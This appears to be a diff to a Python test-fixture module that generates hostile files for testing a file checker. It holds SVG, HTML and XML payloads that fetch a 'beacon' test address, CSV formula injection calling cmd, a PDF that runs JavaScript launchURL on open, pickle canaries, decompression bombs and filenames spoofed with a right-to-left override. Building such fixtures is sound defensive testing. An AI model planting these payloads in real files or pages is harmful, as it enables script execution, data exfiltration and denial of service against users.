@@ -1,7 +1,7 @@
 """Files that attack the checker who looks at them: active, oversized, two-faced, or lying about their names.
 
-Those in `ACTIVE` run script or load from `beacon` when a browser is given them as they are, under their own type: the
-control that the attack is one. Bytes are made at call; nothing here is kept.
+Those in `ACTIVE` run script or load from `beacon` when a browser is given them as they are, under the type beside
+their name: the control that the attack is one. Bytes are made at each call.
 """
 
 import io
@@ -26,7 +26,7 @@ from pypdf.generic import (
 
 from tests.output_review.readers.hostile import Canary, a_tar, a_zip, encrypted_zip
 
-# What a browser does with the raw file, by its type: the files that must reach the beacon when nobody is in between.
+# The files that reach the beacon when a browser is given them raw, under this type, with nobody in between.
 ACTIVE = {
     "active.svg": "image/svg+xml", "animated.svg": "image/svg+xml", "loading.svg": "image/svg+xml",
     "page.html": "text/html", "refresh.html": "text/html", "frames.html": "text/html", "styled.html": "text/html",
@@ -38,7 +38,7 @@ ACTIVE = {
 
 
 def hostile(beacon: str, touched: Path) -> dict[str, bytes]:
-    """Each file by its name. `beacon` is an address that nothing may reach; `touched` a file that nothing may make."""
+    """Each file by its name. Nothing may reach the address `beacon`; nothing may make the file `touched`."""
     script = f"<script>new Image().src='{beacon}script'</script>"
     return {
         **_drawings(beacon, script),
@@ -53,29 +53,36 @@ def hostile(beacon: str, touched: Path) -> dict[str, bytes]:
 
 
 def _drawings(beacon: str, script: str) -> dict[str, bytes]:
-    head = "<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink' width='9' height='9'"
+    head = "<svg xmlns='http://www.w3.org/2000/svg' width='9' height='9'"
     marks = "<circle r='1'/>" * 500
-    return {
-        "active.svg": f"{head} onload='fetch(`{beacon}onload`)'>{script}{marks}</svg>".encode(),
-        "animated.svg": f"{head}><rect width='1'><animate attributeName='x' dur='1s' onbegin='fetch(`{beacon}a`)'/></rect></svg>".encode(),
-        "loading.svg": f"{head}><style>@import '{beacon}css';</style><image href='{beacon}image' width='9' height='9'/></svg>".encode(),
-        "entities.svg": f"<?xml version='1.0'?><!DOCTYPE svg [<!ENTITY x SYSTEM '{beacon}entity'>]>{head}>&x;</svg>".encode(),
-    }  # fmt: skip
+    moved = f"<animate attributeName='x' dur='1s' onbegin='fetch(`{beacon}begin`)'/>"
+    loaded = f"<style>@import '{beacon}css';</style><image href='{beacon}image' width='9' height='9'/>"
+    entity = f"<!DOCTYPE svg [<!ENTITY x SYSTEM '{beacon}entity'>]>"
+    drawings = {
+        "active.svg": f"{head} onload='fetch(`{beacon}onload`)'>{script}{marks}</svg>",
+        "animated.svg": f"{head}><rect width='1'>{moved}</rect></svg>",
+        "loading.svg": f"{head}>{loaded}</svg>",
+        "entities.svg": f"<?xml version='1.0'?>{entity}{head}>&x;</svg>",
+    }
+    return {name: text.encode() for name, text in drawings.items()}
 
 
 def _pages(beacon: str, script: str) -> dict[str, bytes]:
+    frames = f"<iframe src='{beacon}frame'></iframe><object data='{beacon}object'></object>"
+    styles = f"<style>@import '{beacon}css'; body {{ background: url('{beacon}bg') }}</style>"
+    focus = f"onfocus=\"new Image().src='{beacon}focus'\""
     pages = {
         "page.html": f"<!doctype html><title>x</title>{script}<img src='{beacon}img'>",
         "refresh.html": f"<html><meta http-equiv=refresh content='0;url={beacon}refresh'>",
-        "frames.html": f"<html><iframe src='{beacon}frame'></iframe><object data='{beacon}object'></object><embed src='{beacon}embed'>",
-        "styled.html": f"<html><style>@import '{beacon}css'; body {{ background: url('{beacon}bg') }}</style><link rel=stylesheet href='{beacon}link'>",
-        "focus.html": f"<html><input autofocus onfocus=\"new Image().src='{beacon}focus'\"><details open ontoggle=\"fetch('{beacon}t')\">",
+        "frames.html": f"<html>{frames}<embed src='{beacon}embed'>",
+        "styled.html": f"<html>{styles}<link rel=stylesheet href='{beacon}link'>",
+        "focus.html": f"<html><input autofocus {focus}><details open ontoggle=\"fetch('{beacon}t')\">",
         "fragment.html": f"<img src=x onerror=\"new Image().src='{beacon}onerror'\"><base href='{beacon}'>",
         "form.html": f"<html><form action='{beacon}form'></form><script>document.forms[0].submit()</script>",
         "styled.xml": f"<?xml version='1.0'?><?xml-stylesheet type='text/css' href='{beacon}sheet'?><a>text</a>",
         "xhtml.xml": f"<?xml version='1.0'?><html xmlns='http://www.w3.org/1999/xhtml'>{script}</html>",
         "readme.md": f"# Title\n\n{script}\n[x](javascript:alert(1)) ![x]({beacon}picture)\n",
-    }  # fmt: skip
+    }
     return {name: text.encode() for name, text in pages.items()}
 
 
@@ -84,7 +91,7 @@ def _texts(beacon: str, script: str) -> dict[str, bytes]:
         "formulas.csv": f"a,b\n=HYPERLINK(\"{beacon}\"),=cmd|' /C calc'!A0\n@SUM(1),+1\n".encode(),
         "polyglot.csv": f"a,b\n{script},1\n\"</td></table><iframe src='{beacon}'></iframe>\",2\n".encode(),
         "cells.csv": (b"1," * 999 + b"1\n") * 10_000,
-        "lines.txt": (b"x" * 10_000 + b"\n") * 2000,
+        "lines.txt": (b"x" * 10_000 + b"\n") * 1000,
         "turned.txt": "name\u202efdp.exe \u2066x\u2069 \u200b\ufeff\x1b[2J\x07\x9b31m \U000e0041 end\n".encode()
         * 50,
         "data.json": (json.dumps({"</style>": script, "a\u202e": [1e308, "\u0000"]}) + "\n").encode(),
@@ -103,12 +110,13 @@ def _images(beacon: str, script: str) -> dict[str, bytes]:
     Image.new("RGB", (40, 30), "blue").save(photo, "JPEG", exif=exif, comment=script.encode())
     drawn = io.BytesIO()
     Image.new("P", (4, 4)).save(drawn, "GIF", comment=script.encode())
+    private = _chunk(b"prVt", b"name,age\n" * 100) + _chunk(b"tEXt", b"Comment\0Ann, 41")
     return {
         "polyglot.png": png + script.encode() + a_zip({"rows.csv": b"1,2\n"}),
         "claims.png": _png(60_000, 60_000),
         "bomb.png": _png(7000, 7000),
         "text-bomb.png": png[:33] + _chunk(b"zTXt", b"k\0\0" + zlib.compress(bytes(200 << 20), 9)) + png[33:],
-        "private.png": png[:33] + _chunk(b"prVt", b"name,age\n" * 100) + _chunk(b"tEXt", b"Comment\0Ann, 41") + png[33:],
+        "private.png": png[:33] + private + png[33:],
         "damaged.png": png[:60],
         "comment.jpg": photo.getvalue(),
         "polyglot.gif": drawn.getvalue(),
@@ -130,14 +138,16 @@ def _chunk(kind: bytes, data: bytes) -> bytes:
 def _documents(beacon: str, script: str) -> dict[str, bytes]:
     active = pypdf.PdfWriter()
     page = active.add_blank_page(300, 200)
-    active.add_js(f"app.launchURL('{beacon}js', true);")
+    active.root_object[NameObject("/OpenAction")] = _action(
+        "/JavaScript", "/JS", f"app.launchURL('{beacon}js', true);"
+    )
     active.add_attachment("rows.csv", b"name,age\nAnn,41\n")
     active.add_metadata({"/Author": script, "/Title": "\u202etitle"})
-    link = DictionaryObject({
-        NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject("/Link"),
-        NameObject("/Rect"): ArrayObject([NumberObject(n) for n in (0, 0, 300, 200)]),
-        NameObject("/A"): DictionaryObject({NameObject("/S"): NameObject("/URI"), NameObject("/URI"): TextStringObject(f"{beacon}uri")}),
-    })  # fmt: skip
+    link = DictionaryObject(
+        {NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject("/Link")}
+    )
+    link[NameObject("/Rect")] = ArrayObject([NumberObject(n) for n in (0, 0, 300, 200)])
+    link[NameObject("/A")] = _action("/URI", "/URI", f"{beacon}uri")
     page[NameObject("/Annots")] = ArrayObject([active._add_object(link)])
     locked = pypdf.PdfWriter()
     locked.add_blank_page(100, 100)
@@ -159,6 +169,10 @@ def _documents(beacon: str, script: str) -> dict[str, bytes]:
         "hidden.xlsx": _written(book, "save"),
         "macros.xlsm": _with_member(_written(book, "save"), "xl/vbaProject.bin", b"macros"),
     }  # fmt: skip
+
+
+def _action(sort: str, key: str, text: str) -> DictionaryObject:
+    return DictionaryObject({NameObject("/S"): NameObject(sort), NameObject(key): TextStringObject(text)})
 
 
 def _written(document: object, how: str = "write") -> bytes:
@@ -185,7 +199,7 @@ def _notebooks(beacon: str, script: str) -> dict[str, bytes]:
     outputs.append({"output_type": "error", "ename": script, "evalue": "x", "traceback": [f"\x1b[31m{script}"]})
     outputs.append({"output_type": "stream", "name": "stdout", "text": script})
     cells = [
-        {"cell_type": "code", "id": "a", "metadata": {}, "source": script, "outputs": outputs, "execution_count": 1},
+        {"cell_type": "code", "id": "a", "metadata": {}, "source": script, "outputs": outputs},
         {"cell_type": "markdown", "id": "b", "metadata": {"rows": [script]}, "source": f"{script} ![x]({beacon}i)",
          "attachments": {"x.svg": {"image/svg+xml": f"<svg onload=\"fetch('{beacon}s')\"/>"}}},
         {"cell_type": "raw", "id": "c", "metadata": {"format": "text/html"}, "source": script},
@@ -224,7 +238,7 @@ def _archives() -> dict[str, bytes]:
 
 
 def _models(touched: Path) -> dict[str, bytes]:
-    packed = io.BytesIO()
+    packed, claim = io.BytesIO(), b"{'descr': '<f8', 'fortran_order': False, 'shape': (99999999999,), }"
     joblib.dump({"model": Canary(touched)}, packed, compress=("xz", 3))
     return {
         "canary.pkl": pickle.dumps(Canary(touched)),
@@ -232,5 +246,5 @@ def _models(touched: Path) -> dict[str, bytes]:
         "canary.joblib": packed.getvalue(),
         "deep.pkl": b"\x80\x04" + b"]" * 300_000 + b"a" * 299_999 + b".",
         "steps.pkl": b"\x80\x02" + b"N0" * 2_000_000 + b"N.",
-        "claims.npy": b"\x93NUMPY\x01\x00v\x00" + b"{'descr': '<f8', 'fortran_order': False, 'shape': (99999999999,), }".ljust(117) + b"\n",
+        "claims.npy": b"\x93NUMPY\x01\x00v\x00" + claim.ljust(117) + b"\n",
     }  # fmt: skip
